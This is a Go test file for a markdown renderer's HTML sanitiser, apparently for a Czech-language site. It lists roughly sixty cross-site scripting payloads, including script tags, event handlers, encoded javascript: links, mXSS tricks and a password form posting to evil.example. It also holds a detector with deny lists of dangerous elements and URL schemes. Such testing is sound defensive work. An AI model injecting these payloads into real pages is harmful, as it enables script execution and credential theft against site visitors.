package markdown

import (
	"fmt"
	"strings"
	"testing"

	nethtml "golang.org/x/net/html"
)

// hostile is one attack on the sanitiser.
type hostile struct {
	name string
	src  string
	// absent are substrings (compared case-insensitively) that must not be
	// in the output: they only occur there if the markup survived.
	absent []string
	// keep is harmless text next to the attack that must survive.
	keep string
}

// hostileInputs are the attacks of TestSanitiseHostile; FuzzRender starts
// from them too.
func hostileInputs() []hostile {
	return []hostile{
		{"script tag", "Před <script>alert(1)</script> po", []string{"<script", "alert(1)"}, "Před"},
		{"script block", "<script>\nalert(1)\n</script>\n\nBezpečný text", []string{"<script", "alert(1)"}, "Bezpečný text"},
		{"upper case script", "<SCRIPT>alert(1)</SCRIPT>\n\nText", []string{"<script", "alert(1)"}, "Text"},
		{"mixed case script with src", `Text <ScRiPt src="https://evil.example/x.js"></ScRiPt> dál`, []string{"<script", "evil.example"}, "dál"},
		{"script with slash attribute", "Text <script/src=//evil.example/x.js></script> dál", []string{"<script"}, "dál"},
		{"split script", "Text <scr<script>ipt>alert(1)</script> dál", []string{"<script", "<scr"}, "dál"},
		{"img onerror", "Obrázek <img src=x onerror=alert(1)> dál", []string{"onerror"}, "Obrázek"},
		{"img onerror quoted", `<img src="x" onerror="alert(1)" alt="a">` + "\n\nDál", []string{"onerror"}, "Dál"},
		{"javascript href", `<a href="javascript:alert(1)">klikni</a>`, []string{"javascript"}, "klikni"},
		{"mixed case javascript", `<a href="JaVaScRiPt:alert(1)">klikni</a>`, []string{"javascript"}, "klikni"},
		{"entity javascript", `<a href="&#106;avascript:alert(1)">klikni</a>`, []string{"javascript", "&#106;"}, "klikni"},
		{"hex entity javascript", `<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">klikni</a>`, []string{"javascript", "&#x6a;", "href"}, "klikni"},
		{"named entity colon", `<a href="javascript&colon;alert(1)">klikni</a>`, []string{"javascript", "href"}, "klikni"},
		{"tab in scheme", "<a href=\"java\tscript:alert(1)\">klikni</a>", []string{"script:", "href"}, "klikni"},
		{"leading space", `<a href=" javascript:alert(1)">klikni</a>`, []string{"javascript", "href"}, "klikni"},
		{"vbscript", `<a href="vbscript:msgbox(1)">klikni</a>`, []string{"vbscript", "href"}, "klikni"},
		{"onclick on a good link", `<a href="https://example.cz" onclick="alert(1)">odkaz</a>`, []string{"onclick", "alert"}, `<a href="https://example.cz">odkaz</a>`},
		{"iframe", "<iframe src=\"https://evil.example\"></iframe>\n\nText", []string{"<iframe", "evil.example"}, "Text"},
		{"iframe srcdoc", `Text <iframe srcdoc="<script>alert(1)</script>"></iframe> dál`, []string{"<iframe", "srcdoc", "<script"}, "dál"},
		{"object", `Text <object data="evil.swf" type="application/x-shockwave-flash"></object> dál`, []string{"<object", "evil.swf"}, "dál"},
		{"object javascript", `Text <object data="javascript:alert(1)"></object> dál`, []string{"<object", "javascript"}, "dál"},
		{"embed", `Text <embed src="evil.swf"> dál`, []string{"<embed", "evil.swf"}, "dál"},
		{"svg script", "Text <svg><script>alert(1)</script></svg> dál", []string{"<svg", "<script", "alert(1)"}, "dál"},
		{"svg onload", "Text <svg onload=alert(1)> dál", []string{"<svg", "onload"}, "dál"},
		{"svg animate href", `Text <svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>klik</text></a></svg> dál`, []string{"<svg", "<animate", "javascript"}, "dál"},
		{"style element", "<style>body{display:none}</style>\n\nText", []string{"<style", "display:none"}, "Text"},
		{"style attribute with javascript url", `<p style="background:url(javascript:alert(1))">Text</p>`, []string{"style", "javascript"}, "<p>Text</p>"},
		{"style attribute expression", `Text <span style="width: expression(alert(1))">dál</span>`, []string{"style", "expression"}, "dál"},
		{"form", `<form action="https://evil.example/steal"><input name="heslo" type="password"><button>Odeslat</button></form>` + "\n\nText", []string{"<form", "<input", "<button", "action="}, "Text"},
		{"form action javascript", `Text <form action="javascript:alert(1)"><button formaction="javascript:alert(2)">X</button></form> dál`, []string{"<form", "javascript"}, "dál"},
		{"meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n\nText", []string{"<meta", "refresh", "evil.example"}, "Text"},
		{"base href", "<base href=\"https://evil.example/\">\n\nText", []string{"<base", "evil.example"}, "Text"},
		{"link stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">\n\nText", []string{"<link", "evil.example"}, "Text"},
		{"math mxss", "Text <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> dál", []string{"<math", "onerror", "<style", "<mglyph"}, "dál"},
		{"math href", `Text <math href="javascript:alert(1)">klik</math> dál`, []string{"<math", "javascript"}, "dál"},
		{"noscript mxss", `Text <noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> dál`, []string{"onerror", "<noscript"}, "dál"},
		{"template", "Text <template><script>alert(1)</script></template> dál", []string{"<template", "<script"}, "dál"},
		{"markdown link javascript", "[klikni](javascript:alert(1))", []string{"javascript", "href"}, "klikni"},
		{"markdown link javascript encoded", "[klikni](&#106;avascript:alert(1))", []string{"javascript", "href"}, "klikni"},
		{"markdown link javascript escaped", `[klikni](javascript\:alert(1))`, []string{"javascript", "href"}, "klikni"},
		{"markdown reference javascript", "[klikni][x]\n\n[x]: javascript:alert(1)", []string{"javascript", "href"}, "klikni"},
		{"markdown autolink javascript", "Text <javascript:alert(1)> dál", []string{"href"}, "dál"},
		{"markdown image javascript", "![popis](javascript:alert(1)) dál", []string{"javascript", "src="}, "dál"},
		{"data url link", "[klikni](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", []string{"data:", "href"}, "klikni"},
		{"data url raw link", `<a href="data:text/html,<script>alert(1)</script>">klikni</a>`, []string{"data:", "<script", "href"}, "klikni"},
		{"data url image", "![popis](data:image/png;base64,iVBORw0KGgo=) dál", []string{"data:", "src="}, "dál"},
		{"data url svg image", `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="a">` + "\n\nDál", []string{"data:", "src="}, "Dál"},
		{"details ontoggle", "<details open ontoggle=alert(1)>\n<summary>Souhrn</summary>\nObsah\n</details>", []string{"ontoggle", "alert"}, "Souhrn"},
		{"event on div", `<div onmouseover="alert(1)">Najeď</div>`, []string{"onmouseover", "alert"}, "Najeď"},
		{"body onload", "<body onload=alert(1)>\n\nText", []string{"<body", "onload"}, "Text"},
		{"video source onerror", `Text <video><source onerror="alert(1)"></video> dál`, []string{"<video", "<source", "onerror"}, "dál"},
		{"unclosed img", "Text <img src=x onerror=alert(1)", []string{"<img"}, "Text"},
		{"unclosed script", "Text\n\n<script>alert(1)", []string{"<script"}, "Text"},
		{"unclosed a", `Text <a href="javascript:alert(1)"`, []string{"<a"}, "Text"},
		{"unclosed attribute", `Text <a href="https://example.cz onclick=alert(1)>x</a> dál`, []string{`<a href="https://example.cz onclick`, "onclick=alert(1)>"}, "Text"},
		{"comment trick", "Text <!--<img src=x onerror=alert(1)>--> dál", []string{"<img", "<!--"}, "dál"},
		{"cdata trick", "Text <![CDATA[<script>alert(1)</script>]]> dál", []string{"<script"}, "dál"},
		{"xml processing instruction", "Text <?xml-stylesheet href=\"evil.xsl\"?> dál", []string{"<?", "evil.xsl"}, "dál"},
		{"srcset javascript", `<img src="ok.jpg" srcset="javascript:alert(1) 1x" alt="a">` + "\n\nDál", []string{"srcset", "javascript"}, "Dál"},
		{"target blank without noopener", `<a href="https://evil.example" target="_blank">odkaz</a>`, []string{"target"}, "odkaz"},
		{
			"word paste",
			"<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->\n" +
				"<p class=MsoNormal style='margin-bottom:0cm;line-height:normal;mso-pagination:none'><span style='font-size:11.0pt;mso-bidi-font-family:Calibri'>Dobrý den, posílám <b>podklady</b><o:p></o:p></span></p>\n" +
				"<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]>·<![endif]>První bod<o:p></o:p></p>",
			[]string{"mso", "<o:p", "style=", "class=", "<xml", "officedocumentsettings", "[if", "<!--"},
			"Dobrý den, posílám <b>podklady</b>",
		},
	}
}

// TestSanitiseHostile checks every attack twice: the listed strings are
// absent and the harmless text survives, and the whole output passes the
// structural check FuzzRender uses.
func TestSanitiseHostile(t *testing.T) {
	r := newTestRenderer()
	attacks := hostileInputs()
	if len(attacks) < 25 {
		t.Fatalf("only %d attacks", len(attacks))
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			for _, lang := range []string{"cs", "en"} {
				got := string(render(t, r, a.src, lang).HTML)
				lower := strings.ToLower(got)
				for _, bad := range a.absent {
					if strings.Contains(lower, strings.ToLower(bad)) {
						t.Errorf("%s: %q survived in\n%s", lang, bad, got)
					}
				}
				if !strings.Contains(got, a.keep) {
					t.Errorf("%s: harmless %q lost in\n%s", lang, a.keep, got)
				}
				if problems := unsafeMarkup(got); len(problems) > 0 {
					t.Errorf("%s: %v in\n%s", lang, problems, got)
				}
			}
		})
	}
}

func TestSanitiseKeepsSafeMarkup(t *testing.T) {
	r := newTestRenderer()
	tests := []struct {
		name, src, want string
	}{
		{"strong", "<strong>důležité</strong>", "<strong>důležité</strong>"},
		{"markdown strong and em", "**tučně** a *kurzíva*", "<strong>tučně</strong> a\u00a0<em>kurzíva</em>"},
		{"em", "<em>důraz</em>", "<em>důraz</em>"},
		{"sub", "CO<sub>2</sub>", "CO<sub>2</sub>"},
		{"sup", "m<sup>2</sup>", "m<sup>2</sup>"},
		{"abbr title", `<abbr title="Operační program Spravedlivá transformace">OP ST</abbr>`, `<abbr title="Operační program Spravedlivá transformace">OP ST</abbr>`},
		{"abbr title with Czech punctuation", `<abbr title="Fond pro spravedlivou transformaci (FST): 2021–2027">FST</abbr>`, `<abbr title="Fond pro spravedlivou transformaci (FST): 2021–2027">FST</abbr>`},
		{"mark", "<mark>zvýrazněno</mark>", "<mark>zvýrazněno</mark>"},
		{"del", "<del>škrtnuto</del>", "<del>škrtnuto</del>"},
		{"ins", "<ins>vloženo</ins>", "<ins>vloženo</ins>"},
		{"kbd", "<kbd>Ctrl</kbd>+<kbd>C</kbd>", "<kbd>Ctrl</kbd>+<kbd>C</kbd>"},
		{"br", "první<br>druhý", "první<br/>druhý"},
		{"markdown hard break", "první  \ndruhý", "první<br/>\ndruhý"},
		{"small and q", `<small>drobné</small> <q>citace</q>`, `<small>drobné</small> <q>citace</q>`},
		{"table", "<table><caption>Výdaje</caption><thead><tr><th>Rok</th></tr></thead><tbody><tr><td>2024</td></tr></tbody></table>", "<table><caption>Výdaje</caption><thead><tr><th>Rok</th></tr></thead><tbody><tr><td>2024</td></tr></tbody></table>"},
		{"lists", "<ul><li>a</li></ul><ol><li>b</li></ol><dl><dt>c</dt><dd>d</dd></dl>", "<ul><li>a</li></ul><ol><li>b</li></ol><dl><dt>c</dt><dd>d</dd></dl>"},
		{"blockquote", "<blockquote><p>citát</p></blockquote>", "<blockquote><p>citát</p></blockquote>"},
		{"https link", `<a href="https://example.cz/a?b=1&amp;c=2">odkaz</a>`, `<a href="https://example.cz/a?b=1&amp;c=2">odkaz</a>`},
		{"http link", `<a href="http://example.cz">odkaz</a>`, `<a href="http://example.cz">odkaz</a>`},
		{"mailto link", `<a href="mailto:info@example.cz">napište</a>`, `<a href="mailto:info@example.cz">napište</a>`},
		{"relative link", `<a href="../projekty/">projekty</a>`, `<a href="../projekty/">projekty</a>`},
		{"fragment link", `<a href="#financovani">níže</a>`, `<a href="#financovani">níže</a>`},
		{"rel on link", `<a href="https://example.cz" rel="noopener noreferrer">odkaz</a>`, `<a href="https://example.cz" rel="noopener noreferrer">odkaz</a>`},
		{"figure", `<figure><img src="a.jpg" alt="Hala – 2023"><figcaption>Hala č. 2</figcaption></figure>`, `<figure><img src="a.jpg" alt="Hala – 2023"/><figcaption>Hala č. 2</figcaption></figure>`},
		{"lang", `<p lang="en">Just Transition</p>`, `<p lang="en">Just Transition</p>`},
		{"lang with region", `<span lang="de-AT">Grüß Gott</span>`, `<span lang="de-AT">Grüß Gott</span>`},
		{"details", "<details><summary>Více</summary>obsah</details>", "<details><summary>Více</summary>obsah</details>"},
		{"heading id", `<h2 id="vlastni-kotva">Nadpis</h2>`, `<h2 id="vlastni-kotva">Nadpis</h2>`},
		{"code", "<code>x &lt; y</code>", "<code>x &lt; y</code>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(render(t, r, tt.src, "cs").HTML)
			if !strings.Contains(got, tt.want) {
				t.Errorf("got\n%s\nwant it to contain\n%s", got, tt.want)
			}
		})
	}
}

// TestBalancesTags: whatever the editor leaves open is closed inside the
// body, and stray end tags cannot close the page's own elements.
func TestBalancesTags(t *testing.T) {
	r := newTestRenderer()
	tests := []struct {
		name, src, want string
	}{
		// Like a browser, the parser reopens <b> after </p> for the
		// trailing newline, and closes it again.
		{"unclosed inline", "Text <b>tučně", "<p>Text <b>tučně</b></p><b>\n</b>"},
		{"unclosed block", "<div>\n\nText", "<div>\n<p>Text</p>\n</div>"},
		{"stray end tags", "</div></main></body>\n\nText", "\n<p>Text</p>\n"},
		{"unclosed table", "<table><tr><td>x\n\nDál", "<table><tbody><tr><td>x\n<p>Dál</p>\n</td></tr></tbody></table>"},
		{"misnested", "<b><i>a</b>b</i>", "<p><b><i>a</i></b><i>b</i></p>\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := string(render(t, r, tt.src, "cs").HTML); got != tt.want {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

// unsafeMarkup reports what in an HTML fragment could run code or change
// the page around it: dangerous elements, event handler and style
// attributes, and URL attributes with a script or data scheme. It looks at
// the markup, not the text, so a paragraph that mentions "javascript:" is
// fine, as it is in the browser.
func unsafeMarkup(fragment string) []string {
	var problems []string
	if strings.Contains(strings.ToLower(fragment), "<script") {
		problems = append(problems, "<script")
	}
	z := nethtml.NewTokenizer(strings.NewReader(fragment))
	for {
		tt := z.Next()
		switch tt {
		case nethtml.ErrorToken:
			return problems
		case nethtml.CommentToken, nethtml.DoctypeToken:
			problems = append(problems, fmt.Sprintf("%v token %q", tt, z.Raw()))
		case nethtml.StartTagToken, nethtml.SelfClosingTagToken:
			tok := z.Token()
			if dangerousElement(tok.Data) {
				problems = append(problems, "element "+tok.Data)
			}
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				switch {
				case strings.HasPrefix(key, "on"):
					problems = append(problems, fmt.Sprintf("event attribute %s=%q", a.Key, a.Val))
				case key == "style":
					problems = append(problems, "style attribute")
				case urlAttribute(key) && dangerousURL(a.Val):
					problems = append(problems, fmt.Sprintf("%s=%q", a.Key, a.Val))
				}
			}
		}
	}
}

func dangerousElement(name string) bool {
	switch strings.ToLower(name) {
	case "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet",
		"form", "input", "button", "textarea", "select", "base", "meta", "link",
		"svg", "math", "template", "noscript", "xml", "title", "html", "head", "body",
		"video", "audio", "source", "animate", "set", "portal", "dialog":
		return true
	}
	return false
}

func urlAttribute(key string) bool {
	switch key {
	case "href", "src", "srcset", "cite", "action", "formaction", "data", "poster",
		"background", "xlink:href", "lowsrc", "dynsrc", "longdesc", "ping", "codebase", "usemap", "values", "to", "from":
		return true
	}
	return false
}

// dangerousURL reports whether a URL (already entity-decoded by the
// tokenizer) has a scheme other than http, https, mailto or none. Browsers
// ignore ASCII white space and control characters inside a scheme, so they
// are removed first.
func dangerousURL(v string) bool {
	var b strings.Builder
	for _, r := range v {
		if r > ' ' && r != 0x7f {
			b.WriteRune(r)
		}
	}
	u := strings.ToLower(b.String())
	for _, scheme := range []string{"javascript:", "vbscript:", "data:", "livescript:", "file:"} {
		if strings.HasPrefix(u, scheme) {
			return true
		}
	}
	return false
}

func TestUnsafeMarkupDetects(t *testing.T) {
	// The fuzz invariant is only as good as this checker.
	for _, bad := range []string{
		"<script>x</script>", `<img src=x onerror=alert(1)>`, `<a href="&#106;avascript:x">`,
		`<a href="java	script:x">`, `<p style="x">`, `<iframe>`, `<svg>`, `<img src="data:image/png;base64,AA">`,
		"<!-- x -->",
	} {
		if len(unsafeMarkup(bad)) == 0 {
			t.Errorf("unsafeMarkup(%q) found nothing", bad)
		}
	}
	for _, ok := range []string{"<p>javascript: a onload=x</p>", `<a href="https://example.cz">x</a>`, `<abbr title="javascript:">x</abbr>`} {
		if p := unsafeMarkup(ok); len(p) > 0 {
			t.Errorf("unsafeMarkup(%q) = %v", ok, p)
		}
	}
}
